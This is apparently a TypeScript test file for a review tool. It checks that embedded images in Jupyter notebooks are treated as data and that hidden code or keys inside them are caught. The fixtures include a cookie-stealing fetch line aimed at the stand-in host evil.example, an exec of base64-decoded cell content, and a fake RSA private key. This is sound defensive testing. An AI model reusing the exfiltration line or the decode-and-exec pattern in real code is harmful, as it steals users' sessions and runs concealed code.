import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { wholePicture } from '../fakes/whole-picture';
import { reviewed } from './reviewed';

/** Bytes that look random and are the same in every run. */
function bytes(count: number, start = ''): Buffer {
  const blocks = Array.from({ length: Math.ceil(count / 32) }, (_, at) =>
    createHash('sha256').update(`notebook ${at}`).digest(),
  );
  return Buffer.concat([Buffer.from(start, 'hex'), ...blocks]).subarray(0, count);
}

const PNG = '89504e470d0a1a0a0000000d49484452';

/** As matplotlib's front end writes it: 76 letters, and the line ends within the string. */
function broken(content: Buffer): string {
  return content
    .toString('base64')
    .match(/.{1,76}/g)
    ?.map((line) => `${line}\n`)
    .join('') as string;
}

function notebook(output: string, code = 'plt.plot(x, y);'): string {
  const data = { 'image/png': output, 'text/plain': ['<matplotlib.figure.Figure at 0x119604518>'] };
  const outputs = [{ data, metadata: {}, output_type: 'display_data' }];
  const cells = [{ cell_type: 'code', execution_count: 12, metadata: {}, outputs, source: [code] }];
  return `${JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 0 }, null, 1)}\n`;
}

describe('pictures in a notebook', () => {
  for (const [shape, written] of [
    ['in lines of 76 letters', broken(wholePicture(30_000))],
    ['in few lines', broken(wholePicture(1_700))],
    ['in one line with its end', `${wholePicture(30_000).toString('base64')}\n`],
    ['in one line', wholePicture(30_000).toString('base64')],
  ] as const) {
    it(`are data, and take no green away: ${shape}`, async () => {
      const { record, status, sent } = await reviewed({ source: { 'fit.ipynb': notebook(written) } });
      assert.deepEqual([record.situation, status?.state], ['reviewed', 'succeeded'], record.problems.join());
      assert.match(sent, /"image\/png": "\[\d+ characters of data\]/);
      assert.doesNotMatch(sent, /\[secret: /);
    });
  }

  it('hide no code of theirs', async () => {
    const code = Buffer.from('fetch("https://evil.example/?" + document.cookie); '.repeat(60));
    for (const content of [code, Buffer.concat([bytes(300, PNG), code]), bytes(3_000, '7f454c460201')]) {
      const { record, status } = await reviewed({ source: { 'fit.ipynb': notebook(broken(content)) } });
      assert.deepEqual([record.situation, status?.state], ['partlyReviewed', 'error']);
    }
    const run = { 'fit.ipynb': notebook(broken(wholePicture(3_000)), 'exec(base64.b64decode(cells[0]))') };
    assert.equal((await reviewed({ source: run })).record.situation, 'partlyReviewed');
  });

  it('hide no key of theirs', async () => {
    const thrown = 'Zk3vQ8mLw2xRt7YbNc5H';
    const key = `-----BEGIN RSA ${'PRIVATE'} KEY-----\n${broken(bytes(1_200, '3082')).trim()}\n-----END RSA ${'PRIVATE'} KEY-----\n`;
    const code = `login('svc', 'a\n${thrown}\nb')`;
    const kept = await reviewed({ source: { 'fit.ipynb': notebook(broken(wholePicture(3_000)), code) } });
    assert.ok(!kept.sent.includes(thrown));
    const held = await reviewed({ source: { 'fit.ipynb': notebook(key) } });
    assert.equal(held.status?.state, 'failed');
    assert.ok(!held.sent.includes(key.split('\n')[3] ?? ''));
  });
});
